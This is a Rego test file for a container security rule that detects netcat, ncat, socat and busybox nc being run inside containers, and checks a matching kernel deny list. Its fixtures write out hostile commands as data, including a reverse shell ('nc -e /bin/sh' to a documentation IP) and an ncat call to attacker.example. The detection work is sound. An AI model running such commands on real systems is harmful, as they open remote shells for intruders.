package palisade.rules.netcat_in_container_test

import rego.v1

import data.palisade.lib.fixtures as fx
import data.palisade.rules.netcat_in_container as rule

test_nc_in_container if {
	hits := rule.hits with input as fx.container_exec("/usr/bin/nc", ["nc", "10.0.0.5", "4444"])
	hits == {"nc executed in container web (registry.example.com/shop/web:1.4.2): nc 10.0.0.5 4444"}
}

test_socat_in_container if {
	hits := rule.hits with input as fx.container_exec("/usr/bin/socat", ["socat", "TCP-LISTEN:9000", "STDOUT"])
	count(hits) == 1
}

test_busybox_nc_applet_in_container if {
	hits := rule.hits with input as fx.container_exec("/bin/busybox", ["nc", "-lp", "4444"])
	count(hits) == 1
}

test_renamed_binary_keeps_argv0 if {
	hits := rule.hits with input as fx.container_exec("/usr/local/bin/healthcheck", ["ncat", "attacker.example", "443"])
	count(hits) == 1
}

test_nc_on_the_host_is_not_matched if {
	hits := rule.hits with input as fx.host_exec("/usr/bin/nc", ["nc", "-z", "localhost", "22"])
	count(hits) == 0
}

test_other_tools_in_container_are_not_matched if {
	hits := rule.hits with input as fx.container_exec("/usr/bin/curl", ["curl", "-s", "http://svc:8080/health"])
	count(hits) == 0
}

test_kernel_denies_the_same_names_in_containers if {
	rule.kernel.scope == "containers"
	"nc" in rule.kernel.exec.names
	"nc.openbsd" in rule.kernel.exec.names
	"socat" in rule.kernel.exec.names
	count(rule.kernel.exec.names) == count(data.palisade.config.netcat_tools)
}

test_kernel_names_follow_the_config if {
	names := rule.kernel.exec.names with data.palisade.config.netcat_tools as {"nc": true, "telnet": false}
	names == ["nc"]
}

test_busybox_called_by_its_name_is_judged_as_the_applet if {
	ev := fx.container_exec("/bin/busybox", ["busybox", "nc", "-e", "/bin/sh", "203.0.113.7", "4444"])
	rule.hits == {"nc executed in container web (registry.example.com/shop/web:1.4.2): busybox nc -e /bin/sh 203.0.113.7 4444"} with input as ev
}
